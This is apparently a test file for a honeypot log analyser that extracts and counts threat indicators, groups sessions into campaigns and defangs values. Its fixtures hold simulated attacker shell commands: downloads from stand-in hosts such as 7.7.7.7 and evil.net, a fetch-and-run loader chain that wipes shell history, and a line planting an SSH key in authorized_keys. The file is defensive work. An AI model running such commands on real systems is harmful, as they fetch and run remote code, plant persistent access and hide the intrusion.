/** Indicators out of logs: what is found, how it is counted, what is left out. */
import { describe, expect, test } from "bun:test";
import { type CollectOptions, collectIndicators } from "../../../lib/indicators/collect-indicators.ts";
import { defang, type Indicator, INDICATOR_TYPE_NAMES } from "../../../lib/indicators/indicator.ts";
import { findSessionCampaigns } from "../../../lib/indicators/session-campaigns.ts";
import { KeepOut } from "../../../lib/indicators/keep-out.ts";
import { Sightings } from "../../../lib/indicators/sightings.ts";
import { type LogEvent, NOON_MS, readEvents } from "../../support/event-logs.ts";
import { seededRandom } from "../../support/random.ts";

const HASH = "ab".repeat(32);
const EMPTY = new Bun.CryptoHasher("sha256").digest("hex");
const KEY = `ssh-rsa AAAA${"b".repeat(40)}`;

async function collect(logs: readonly (readonly LogEvent[])[], options: Partial<CollectOptions> = {}) {
  using set = await readEvents(...logs);
  return await collectIndicators(set, {
    types: INDICATOR_TYPE_NAMES, scope: {}, keepOut: new KeepOut({ excluded: [], keepsReserved: false }), minSensors: 1, minHits: 1, ...options,
  });
}
const short = ({ type, value, hits, sessions, sources, days, sightings }: Indicator) =>
  [type, value, hits, sessions, sources, days, sightings.map(({ sensor }) => sensor).join(" ")].join(" | ");
const at = (eventid: string, seconds: number, more: Record<string, unknown>): LogEvent => ({ eventid, at: seconds, src_ip: "5.6.7.8", ...more });

describe("collectIndicators()", () => {
  test("finds each type, with its counts", async () => {
    const { indicators } = await collect([
      [
        at("session.connect", 0, { dst_ip: "9.9.1.1", dst_port: 22 }),
        at("client.kex", 1, { hassh: "CD".repeat(16) }),
        at("client.fingerprint", 1, { key: `${KEY} me@x`, fingerprint: "x" }),
        at("login.failed", 2, { username: "a:b", password: "c" }),
        at("login.success", 2, { username: "a", password: "b:c" }),
        at("command.input", 3, { input: `wget http://7.7.7.7/x; echo "${KEY} other" >> .ssh/authorized_keys` }),
        at("command.input", 4, { input: "wget http://6.6.6.6/fed", realm: "sh" }),
        at("session.file_download", 5, { url: "http://7.7.7.7/x", shasum: HASH.toUpperCase(), outfile: "dl/x" }),
        at("session.file_download.failed", 6, { url: "http://Evil.NET/y" }),
        at("session.file_download", 6, { url: "http://evil.net/z", shasum: "" }),
        at("session.file_upload", 7, { filename: "x", shasum: EMPTY }),
        at("session.file_download", 7, { destfile: "/dev/null", shasum: "ef".repeat(32) }),
        at("log.closed", 8, { ttylog: "tty/x", shasum: "12".repeat(32) }),
        at("direct-tcpip.request", 9, { dst_ip: "victim.org", dst_port: 25 }),
      ],
      [
        at("session.connect", 86_400, { session: "s2", sensor: "b", src_ip: "5.6.7.8", dst_ip: "10.0.0.1" }),
        at("session.connect", 86_401, { session: "s3", sensor: "b", src_ip: "9.9.1.77" }),
        at("session.connect", 86_401, { session: "s4", sensor: "b", src_ip: "10.1.1.1" }),
        at("login.failed", 86_402, { session: "s5", sensor: "b", src_ip: "4.4.4.4", username: "", password: "" }),
        at("command.input", 86_403, { session: "s5", sensor: "b", src_ip: "4.4.4.4", input: "curl http://7.7.7.7/x" }),
      ],
    ]);
    expect(indicators.map(short)).toEqual([
      "address | 5.6.7.8 | 2 | 2 | 1 | 2 | a b",
      "address | 4.4.4.4 | 1 | 1 | 1 | 1 | b",
      "url | http://7.7.7.7/x | 3 | 2 | 2 | 2 | a b",
      "url | http://Evil.NET/y | 1 | 1 | 1 | 1 | a",
      "url | http://evil.net/z | 1 | 1 | 1 | 1 | a",
      "host | 7.7.7.7 | 3 | 2 | 2 | 2 | a b",
      "host | evil.net | 2 | 1 | 1 | 1 | a",
      `hash | ${HASH} | 1 | 1 | 1 | 1 | a`,
      `key | ${KEY} | 2 | 1 | 1 | 1 | a`,
      `hassh | ${"cd".repeat(16)} | 1 | 1 | 1 | 1 | a`,
      "credential | : | 1 | 1 | 1 | 1 | b",
      "credential | a:b:c | 1 | 1 | 1 | 1 | a",
      "credential | a:b:c | 1 | 1 | 1 | 1 | a",
      "proxy | victim.org:25 | 1 | 1 | 1 | 1 | a",
    ]);
    const [address] = indicators;
    expect(address).toMatchObject({ firstUs: NOON_MS * 1000, lastUs: (NOON_MS + 86_400_000) * 1000, session: "s2" });
  });

  test("says what it left out, and why", async () => {
    const events = [
      at("session.connect", 0, { dst_ip: "9.9.1.1" }),
      at("session.connect", 1, { session: "s2", src_ip: "9.9.1.2" }),
      at("session.connect", 2, { session: "s3", src_ip: "192.168.1.1" }),
      at("session.connect", 3, { session: "s4", src_ip: "3.3.3.3" }),
      at("command.input", 4, { input: "tftp -g 127.0.0.1 -r x; wget http://nodot/x; wget https://github.com/x/y" }),
      at("session.file_upload", 7, { filename: "x", shasum: EMPTY }),
    ];
    const keepOut = new KeepOut({ excluded: ["3.3.0.0/16"], keepsReserved: false });
    const { indicators, keptOut, below } = await collect([events], { keepOut, minHits: 2 });
    expect(indicators).toEqual([]);
    expect(below).toBe(2);
    expect(Object.fromEntries(keptOut)).toEqual({
      "private or reserved": 3, "of sensors or their networks": 1, "by --exclude": 1, "shared by everybody": 1, "empty or trivial files": 1,
    });
  });

  test("takes the types, days, sensors and least counts asked for; each day by itself", async () => {
    const events = [0, 1, 86_400, 86_401].map((seconds, i) =>
      at("session.connect", seconds, { session: `s${i}`, sensor: i < 3 ? "a" : "b", src_ip: i === 1 ? "4.4.4.4" : "5.6.7.8" }),
    );
    const one = await collect([events], { types: ["address"], minSensors: 2 });
    expect(one.indicators.map(short)).toEqual(["address | 5.6.7.8 | 3 | 3 | 1 | 2 | a b"]);
    const noonDay = Math.floor(NOON_MS / 86_400_000);
    expect([...one.byDay()].map(({ day, indicators }) => [day - noonDay, ...indicators.map(short)])).toEqual([
      [0, "address | 5.6.7.8 | 1 | 1 | 1 | 1 | a"],
      [1, "address | 5.6.7.8 | 2 | 2 | 1 | 1 | a b"],
    ]);
    const scope = { sinceDay: noonDay + 1, sensors: ["b"] };
    expect((await collect([events], { scope })).indicators.map(short)).toEqual(["address | 5.6.7.8 | 1 | 1 | 1 | 1 | b"]);
  });
});

test("campaigns are those of campaigns.ts; of one only what its sessions show", async () => {
  const chain = (session: string, src_ip: string, host: string, seconds: number): LogEvent[] => [
    at("session.connect", seconds, { session, src_ip }),
    ...["cd /tmp", `wget http://${host}/kestrel-loader.sh`, "sh kestrel-loader.sh --quiet", "rm kestrel-loader.sh", "history -c -w"].map((input, i) =>
      at("command.input", seconds + i, { session, src_ip, input }),
    ),
  ];
  using set = await readEvents([
    ...chain("s1", "5.6.7.8", "7.7.7.7", 0),
    ...chain("s2", "4.4.4.4", "7.7.7.7", 100),
    at("session.connect", 200, { session: "s3", src_ip: "3.3.3.3" }),
    at("session.connect", 300, { session: "s4", src_ip: "5.6.7.8" }),
  ]);
  const keepOut = new KeepOut({ excluded: [], keepsReserved: false });
  const options = { types: ["address", "host"] as const, scope: {}, keepOut, minSensors: 1, minHits: 1 };
  const all = await findSessionCampaigns(set, {}, []);
  const [id = "", ...others] = all.campaigns.keys();
  expect({ others, is: /^[0-9a-f]{8}$/.test(id) }).toEqual({ others: [], is: true });
  const named = await collectIndicators(set, { ...options, campaigns: all });
  expect(named.indicators.map(({ value, hits, campaigns }) => [value, hits, campaigns])).toEqual([
    ["5.6.7.8", 2, [id]], ["3.3.3.3", 1, []], ["4.4.4.4", 1, [id]], ["7.7.7.7", 2, [id]],
  ]);
  const one = await collectIndicators(set, { ...options, campaigns: await findSessionCampaigns(set, {}, [id.slice(0, 4)]) });
  expect(one.indicators.map(({ value, hits }) => [value, hits])).toEqual([["4.4.4.4", 1], ["5.6.7.8", 1], ["7.7.7.7", 2]]);
  expect([...one.byDay()].map(({ indicators }) => indicators.length)).toEqual([3]);
  await expect(findSessionCampaigns(set, {}, ["0000"])).rejects.toThrow('Cannot find one campaign "0000" in these logs');
});

test("sums of many sightings agree with plain sets, in any order", () => {
  for (let seed = 1; seed <= 20; seed++) {
    const random = seededRandom(seed);
    const pick = (n: number) => random.int(n);
    const seen = Array.from({ length: 3000 }, () => ({
      value: pick(9), sensor: pick(3), session: pick(400) - 1, source: pick(50) - 1, us: pick(4 * 86_400) * 1e6, hits: pick(2),
    }));
    // One source a session, as in a log.
    const sourceOf = new Map<string, number>();
    for (const one of seen) {
      const key = `${one.sensor} ${one.session}`;
      if (!sourceOf.has(key)) sourceOf.set(key, one.source);
    }
    const sightings = new Sightings();
    for (const { value, sensor, session, us, hits } of seen) sightings.add(value, sensor, session, sourceOf.get(`${sensor} ${session}`)!, us, hits);
    const of = (value: number) => seen.filter(one => one.value === value);
    const expected = [...new Set(seen.map(({ value }) => value))].sort().map(value => ({
      value,
      hits: of(value).reduce((sum, { hits }) => sum + hits, 0),
      days: new Set(of(value).map(({ us }) => Math.floor(us / 86_400e6))).size,
      sessions: new Set(of(value).filter(({ session }) => session >= 0).map(({ sensor, session }) => `${sensor} ${session}`)).size,
      sources: new Set(of(value).map(({ sensor, session }) => sourceOf.get(`${sensor} ${session}`)!).filter(source => source >= 0)).size,
      firstUs: Math.min(...of(value).map(({ us }) => us)),
      lastUs: Math.max(...of(value).map(({ us }) => us)),
      sensors: new Set(of(value).map(({ sensor }) => sensor)).size,
    }));
    const found = [...sightings.totals(() => true)].map(({ bySensor, lastSession: _, inSessions: __, ...rest }) => ({ ...rest, sensors: bySensor.length }));
    expect({ seed, found }).toEqual({ seed, found: expected });
  }
});

test.each([
  ["address", "5.6.7.8", "5[.]6[.]7[.]8"], ["address", "2a01::1", "2a01[:][:]1"], ["host", "evil.net", "evil[.]net"],
  ["url", "http://evil.net:81/a.b?c", "hxxp://evil[.]net:81/a.b?c"], ["url", "ftp://evil.net/a", "ftp://evil[.]net/a"], ["hash", HASH, HASH],
] as const)("a defanged %s: %s", (type, value, text) => expect(defang({ type, value })).toBe(text));
